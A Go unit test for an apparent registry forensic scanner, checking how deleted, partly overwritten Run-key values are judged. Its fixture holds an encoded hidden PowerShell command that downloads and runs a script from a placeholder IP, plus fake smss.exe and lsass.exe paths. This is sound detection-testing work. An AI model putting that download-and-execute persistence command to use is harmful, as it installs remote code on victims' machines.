package scan

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/hivescan/hivescan/analyzers"
	"github.com/hivescan/hivescan/hive/hivetest"
	"github.com/hivescan/hivescan/internal/samples"
	"github.com/hivescan/hivescan/report"
)

// Deleted Run values whose data cells were partly overwritten are reported
// at their key, judged on what survives: a fake smss.exe whose drive letter
// was overwritten is no longer called a masquerade (its folder is unknown),
// an encoded PowerShell command whose first letter was overwritten is still
// high from its payload alone but never critical, and a value whose data
// cell now belongs to another record is at most medium.
func TestCarvedRunValuesJudgedAsCarved(t *testing.T) {
	run := `Microsoft\Windows\CurrentVersion\Run`
	script := utf16.Encode([]rune(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`))
	b := make([]byte, 2*len(script))
	for i, c := range script {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	enc := "powershell.exe -nop -w hidden -enc " + base64.StdEncoding.EncodeToString(b)
	root := &hivetest.Key{Name: "CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}", Subkeys: []*hivetest.Key{
		{Name: "Classes"}, {Name: "Clients"}, {Name: "Policies"}, {Name: "RegisteredApplications"},
	}}
	samples.Set(root, `Microsoft\Windows NT\CurrentVersion`, hivetest.SZ("CurrentVersion", "6.3"), hivetest.SZ("CurrentBuildNumber", "19045"), hivetest.SZ("SystemRoot", `C:\Windows`))
	samples.Set(root, run,
		hivetest.SZ("SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`),
		hivetest.SZ("Fake", `C:\Users\Public\smss.exe`),
		hivetest.SZ("Encoded", enc),
		hivetest.SZ("Reused", `C:\Users\Public\lsass.exe`),
		hivetest.SZ("Last", `C:\Program Files\Vendor\tray.exe`))
	h, err := hivetest.Build(root, hivetest.Options{FileName: `\SystemRoot\System32\Config\SOFTWARE`})
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]int{}
	for _, name := range []string{"Fake", "Encoded", "Reused"} {
		vk, ok := h.ValueCell(run, name)
		if !ok {
			t.Fatal(name)
		}
		cells[name] = int(binary.LittleEndian.Uint32(h.Bytes[4096+vk+4+8:]))
		if err := h.FreeValue(run, name); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"Fake", "Encoded"} {
		binary.LittleEndian.PutUint32(h.Bytes[4096+cells[name]+4:], 0x00000000) // a free-list link
	}
	d := 4096 + cells["Reused"]
	binary.LittleEndian.PutUint32(h.Bytes[d:], uint32(-int32(binary.LittleEndian.Uint32(h.Bytes[d:])))) // allocated again
	h.Fix()
	dir := filepath.Join(t.TempDir(), "host")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "SOFTWARE"), h.Bytes, 0o644); err != nil {
		t.Fatal(err)
	}
	r, err := Run(context.Background(), Options{Paths: []string{dir}, Analyzers: analyzers.All()})
	if err != nil {
		t.Fatal(err)
	}
	type got struct {
		sev        report.Severity
		confidence string
	}
	found := map[string]got{}
	for _, f := range r.Findings {
		if !f.Deleted || f.Value == nil {
			continue
		}
		if !strings.HasSuffix(f.Key, run) {
			t.Errorf("%s reported at %s, not at the Run key", *f.Value, f.Key)
		}
		if prev, ok := found[*f.Value]; !ok || f.Severity > prev.sev {
			found[*f.Value] = got{f.Severity, f.Confidence}
		}
	}
	want := map[string]struct {
		max        report.Severity
		min        report.Severity
		confidence string
	}{
		"Fake":    {report.Medium, report.Info, "partial"},
		"Encoded": {report.High, report.High, "partial"},
		"Reused":  {report.Medium, report.Info, "fragment"},
	}
	for name, w := range want {
		g, ok := found[name]
		if !ok {
			t.Errorf("%s: no deleted finding (findings %v)", name, found)
			continue
		}
		if g.sev > w.max || g.sev < w.min || g.confidence != w.confidence {
			t.Errorf("%s: %s %s, want %s..%s %s", name, g.sev, g.confidence, w.min, w.max, w.confidence)
		}
	}
}
